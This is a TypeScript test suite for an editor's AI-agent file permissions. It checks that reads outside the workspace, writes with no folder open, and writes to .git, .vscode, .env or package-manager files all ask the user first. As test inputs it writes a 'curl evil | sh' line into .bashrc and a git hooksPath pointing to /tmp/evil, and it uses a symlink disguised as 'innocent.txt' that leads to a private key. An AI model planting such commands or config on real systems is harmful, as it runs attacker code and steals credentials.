/**
 * What an agent may read and write without asking (issue 14 items 3–5): reads outside the
 * workspace ask (this file / this folder for the session / deny) and a denial is a JSON-RPC
 * error; with no folder open nothing is inside; sensitive files inside the workspace (.git/,
 * .vscode/, .env*, package-manager config) always ask before a write, naming why.
 */
import { test, afterEach } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileSystemCallbacks } from "../../src/acp/client/callbacks/fileSystemCallbacks";
import { PathGrants, grantableFolder } from "../../src/acp/client/callbacks/pathGrants";
import { sensitiveReason } from "../../src/acp/client/callbacks/sensitivePaths";
import { DiskFiles, ScriptedConsent, type ScriptedAnswers } from "../support/diskFiles";
import { fakeAgent } from "../support/fakeAgentLaunch";
import { Cleanup, startedChat } from "../support/hostHarness";
import { assistantText } from "../support/threadReaders";
import { exchanges } from "../support/wireLog";
import { scratchDir } from "../support/scratchDir";

const signal = new AbortController().signal;
const cleanup = new Cleanup();
afterEach(() => cleanup.run());

const tempDir = (prefix: string) => realpathSync(scratchDir(prefix));

function setup(answers: ScriptedAnswers = {}, roots?: string[]) {
  const root = tempDir("acp-consent-ws-");
  const outside = tempDir("acp-consent-out-");
  writeFileSync(join(outside, "id_rsa"), "PRIVATE KEY\n");
  writeFileSync(join(outside, "known_hosts"), "host key\n");
  mkdirSync(join(outside, "deeper"));
  writeFileSync(join(outside, "deeper/config"), "deep\n");
  const consent = new ScriptedConsent(answers);
  const grants = new PathGrants();
  const scope = grants.scope("A");
  const files = new DiskFiles();
  const fs = fileSystemCallbacks({ agent: "A", roots: () => roots ?? [root], files, consent, grants: scope });
  const read = (path: string, sessionId = "s") => fs.readTextFile({ sessionId, path }, signal);
  const write = (path: string, content: string, sessionId = "s") =>
    fs.writeTextFile({ sessionId, path, content }, signal);
  return { root, outside, consent, grants, scope, files, read, write };
}

// ---- item 3: reads outside the project ----

test("a read outside the workspace asks first, and a denial reaches the agent as a JSON-RPC error", async () => {
  const { outside, consent, read } = setup({ read: "deny" });
  const key = join(outside, "id_rsa");
  await assert.rejects(read(key), (error: { code?: number; message?: string; data?: unknown }) => {
    assert.equal(error.code, -32003);
    assert.match(error.message ?? "", /Permission denied: the user did not allow reading .*outside the workspace/);
    assert.deepEqual(error.data, { path: key, reason: "outside-workspace" });
    return true;
  });
  assert.deepEqual(consent.asked, [`read ${key}`], "the user was asked, never silent");
});

test("reads inside the workspace never ask", async () => {
  const { root, consent, read } = setup();
  writeFileSync(join(root, "notes.txt"), "hello\n");
  assert.equal((await read(join(root, "notes.txt"))).content, "hello\n");
  assert.deepEqual(consent.asked, []);
});

test('"Allow this file" lets that session read the file again without asking, and nothing else', async () => {
  const { outside, consent, grants, read } = setup({ read: "file" });
  const key = join(outside, "id_rsa");
  assert.equal((await read(key)).content, "PRIVATE KEY\n");
  assert.equal((await read(key)).content, "PRIVATE KEY\n");
  assert.deepEqual(consent.asked, [`read ${key}`], "asked once for the file");
  await read(join(outside, "known_hosts"));
  await read(key, "another-session");
  assert.deepEqual(
    consent.asked,
    [`read ${key}`, `read ${join(outside, "known_hosts")}`, `read ${key}`],
    "a sibling file and another session ask again",
  );
  assert.deepEqual(
    grants.list().map((g) => [g.agent, g.sessionId, g.kind, g.path]),
    [
      ["A", "s", "file", key],
      ["A", "s", "file", join(outside, "known_hosts")],
      ["A", "another-session", "file", key],
    ],
  );
});

test('"Allow this folder for this session" covers the folder and below; revoking or ending the connection asks again', async () => {
  const { outside, consent, grants, scope, read } = setup({ read: "folder" });
  await read(join(outside, "id_rsa"));
  await read(join(outside, "known_hosts"));
  await read(join(outside, "deeper/config"));
  assert.deepEqual(consent.asked, [`read ${join(outside, "id_rsa")}`], "one question for the whole folder");
  const [grant] = grants.list();
  assert.deepEqual([grant?.kind, grant?.path], ["folder", outside]);

  grants.revoke(grant!.id);
  assert.deepEqual(grants.list(), []);
  await read(join(outside, "known_hosts"));
  assert.equal(consent.asked.length, 2, "revoked: it asks again");

  scope.dispose();
  assert.deepEqual(grants.list(), [], "the connection ended: its grants went with it");
});

test("a folder grant never covers the home folder, its parents or a filesystem root: only the file is allowed", async () => {
  assert.equal(grantableFolder("/home/u/.ssh/id_rsa", "/home/u"), "/home/u/.ssh");
  assert.equal(grantableFolder("/home/u/.bashrc", "/home/u"), undefined, "the home folder itself");
  assert.equal(grantableFolder("/home/notes.txt", "/home/u"), undefined, "a parent of home");
  assert.equal(grantableFolder("/secret", "/home/u"), undefined, "a filesystem root");
  const { outside, consent, grants, read } = setup({ read: "folder" });
  const home = process.env.HOME;
  process.env.HOME = outside;
  try {
    await read(join(outside, "id_rsa"));
    await read(join(outside, "known_hosts"));
  } finally {
    process.env.HOME = home;
  }
  assert.deepEqual(
    grants.list().map((g) => [g.kind, g.path]),
    [
      ["file", join(outside, "id_rsa")],
      ["file", join(outside, "known_hosts")],
    ],
  );
  assert.equal(consent.asked.length, 2, "each file asked");
});

test("a symlink inside the workspace to a file outside is outside: it asks, and the grant names the real file", async () => {
  const { root, outside, consent, grants, read } = setup({ read: "file" });
  symlinkSync(join(outside, "id_rsa"), join(root, "innocent.txt"));
  assert.equal((await read(join(root, "innocent.txt"))).content, "PRIVATE KEY\n");
  assert.deepEqual(consent.asked, [`read ${join(outside, "id_rsa")}`]);
  assert.equal(grants.list()[0]?.path, join(outside, "id_rsa"));
});

test("a read grant never allows a write", async () => {
  const { outside, consent, read, write } = setup({ read: "folder", outside: false });
  await read(join(outside, "id_rsa"));
  await assert.rejects(write(join(outside, "known_hosts"), "evil"), /did not allow writing outside the workspace/);
  assert.equal(readFileSync(join(outside, "known_hosts"), "utf8"), "host key\n");
  assert.deepEqual(consent.asked, [`read ${join(outside, "id_rsa")}`, `outside ${join(outside, "known_hosts")}`]);
});

// ---- item 4: no folder open ----

test("with no folder open nothing is inside: every read and write asks, and says no folder is open", async () => {
  const { root, consent, read, write } = setup({ read: "deny", outside: false }, []);
  writeFileSync(join(root, "notes.txt"), "hello\n");
  await assert.rejects(
    read(join(root, "notes.txt")),
    (error: { code?: number; data?: { reason?: string } }) =>
      error.code === -32003 && error.data?.reason === "no-folder",
  );
  await assert.rejects(write(join(root, ".bashrc"), "curl evil | sh"), /no folder is open/);
  assert.equal(existsSync(join(root, ".bashrc")), false);
  assert.deepEqual(consent.asked, [`read ${join(root, "notes.txt")}`, `outside ${join(root, ".bashrc")}`]);
  assert.deepEqual(consent.noFolder, [true, true]);
});

test("a session with no folder open uses no root for consent, though the agent still gets a cwd", async () => {
  const dir = tempDir("acp-no-folder-");
  writeFileSync(join(dir, "notes.txt"), "line one\nline two\nline three\n");
  const agent = fakeAgent("Bub", { FAKE_AGENT_PROFILE: "bub" });
  const consent = new ScriptedConsent({ read: "file", outside: true });
  const { chat } = await startedChat(cleanup, [agent.launch], {
    workspace: { cwd: () => dir, roots: () => [] },
    ports: { files: new DiskFiles(), consent },
  });
  await chat.prompt("fs-roundtrip");
  const newSession = agent.received().find((m) => m.method === "session/new")?.params as { cwd?: string };
  assert.equal(newSession.cwd, dir, "session/new still gets the cwd");
  assert.deepEqual(
    consent.asked,
    [`read ${join(dir, "notes.txt")}`, `outside ${join(dir, "result.txt")}`, `outside ${join(dir, "notes.txt")}`],
    "the read asked once (file granted), each write asked",
  );
  assert.equal(exchanges(agent, /^fs\//).length, 4);
});

// ---- item 5: sensitive files inside the workspace ----

const SENSITIVE = [
  ".git/config",
  ".git/hooks/pre-commit",
  "sub/.git/HEAD",
  ".vscode/tasks.json",
  ".vscode/settings.json",
  ".env",
  ".env.local",
  ".envrc",
  "packages/app/.npmrc",
  ".yarnrc",
  ".yarnrc.yml",
  "pip.conf",
  "uv.toml",
  ".GIT/config",
  ".VSCode/launch.json",
  ".git./config",
];

test("writes to sensitive files inside the workspace ask every time, and the prompt says why", async () => {
  const { root, consent, write } = setup({ sensitive: false });
  for (const name of SENSITIVE) {
    await assert.rejects(
      write(join(root, name), "x"),
      (error: { code?: number; message?: string; data?: { reason?: string } }) =>
        error.code === -32003 && error.data?.reason === "sensitive-file" && /did not allow/.test(error.message ?? ""),
      name,
    );
    assert.equal(existsSync(join(root, name)), false, `${name} was not written`);
  }
  assert.deepEqual(
    consent.asked,
    SENSITIVE.map((name) => `sensitive ${join(root, name)}`),
  );
  assert.match(consent.reasons[0]!, /\.git\/.*hooks and config run code/);
  assert.match(consent.reasons[3]!, /\.vscode\/.*tasks/);
  assert.match(consent.reasons[5]!, /\.env/);
  assert.match(consent.reasons[8]!, /package-manager config/);
  assert.match(consent.reasons[12]!, /pip or uv/);
});

test("an allowed sensitive write lands, and the next one asks again", async () => {
  const { root, consent, write } = setup({ sensitive: true });
  await write(join(root, ".vscode/tasks.json"), "{}");
  await write(join(root, ".vscode/tasks.json"), "{ }");
  assert.equal(readFileSync(join(root, ".vscode/tasks.json"), "utf8"), "{ }");
  assert.deepEqual(consent.asked, [
    `sensitive ${join(root, ".vscode/tasks.json")}`,
    `sensitive ${join(root, ".vscode/tasks.json")}`,
  ]);
});

test("ordinary files inside the workspace, even look-alikes, are written without asking", async () => {
  const { root, consent, write } = setup();
  for (const name of [
    "src/app.ts",
    ".gitignore",
    ".github/workflows/ci.yml",
    "environment.ts",
    "notes/git/readme.md",
    "npmrc.md",
  ])
    await write(join(root, name), "ok");
  assert.deepEqual(consent.asked, []);
});

test("a symlink cannot hide a sensitive file: resolved and as-sent paths are both checked", async () => {
  const { root, consent, write } = setup({ sensitive: false });
  mkdirSync(join(root, ".git"));
  writeFileSync(join(root, ".git/config"), "[core]\n");
  symlinkSync(join(root, ".git"), join(root, "harmless"));
  mkdirSync(join(root, "real-vscode"));
  symlinkSync(join(root, "real-vscode"), join(root, ".vscode"));
  await assert.rejects(write(join(root, "harmless/config"), "[core]\n\thooksPath = /tmp/evil\n"), /did not allow/);
  await assert.rejects(write(join(root, ".vscode/tasks.json"), "{}"), /did not allow/);
  assert.equal(readFileSync(join(root, ".git/config"), "utf8"), "[core]\n");
  assert.equal(existsSync(join(root, "real-vscode/tasks.json")), false);
  assert.equal(consent.asked.length, 2);
});

test("sensitiveReason: names compare case-insensitively, per segment, ignoring trailing dots and spaces", () => {
  assert.match(sensitiveReason(".Git/config") ?? "", /\.git\//);
  assert.match(sensitiveReason("a/.ENV.production") ?? "", /\.env/);
  assert.match(sensitiveReason(".npmrc ") ?? "", /package-manager/);
  assert.match(sensitiveReason("a\\.vscode\\tasks.json") ?? "", /\.vscode/);
  assert.equal(sensitiveReason("src/git.ts"), undefined);
  assert.equal(sensitiveReason(".gitattributes"), undefined);
});

test("the fake agent's consent scenarios echo a refusal's code and message (used by the e2e tests)", async () => {
  const dir = tempDir("acp-consent-fake-");
  const outside = tempDir("acp-consent-fake-out-");
  writeFileSync(join(outside, "secret.txt"), "s3cret\n");
  const agent = fakeAgent("Fake");
  const consent = new ScriptedConsent({ read: "deny", sensitive: false });
  const { chat } = await startedChat(cleanup, [agent.launch], {
    workspace: { cwd: () => dir, roots: () => [dir] },
    ports: { files: new DiskFiles(), consent },
  });
  await chat.prompt(`e2e-read-guarded ${join(outside, "secret.txt")}`);
  await chat.prompt("e2e-write-guarded .git/config [core]");
  const text = assistantText(chat.store.state.thread);
  assert.match(
    text,
    /Read refused \(-32003\): Permission denied: the user did not allow reading outside the workspace/,
  );
  assert.match(
    text,
    /Write refused \(-32003\): Permission denied: the user did not allow writing .*\.git\/config, which is inside \.git\//,
  );
  assert.equal(existsSync(join(dir, ".git/config")), false);
});
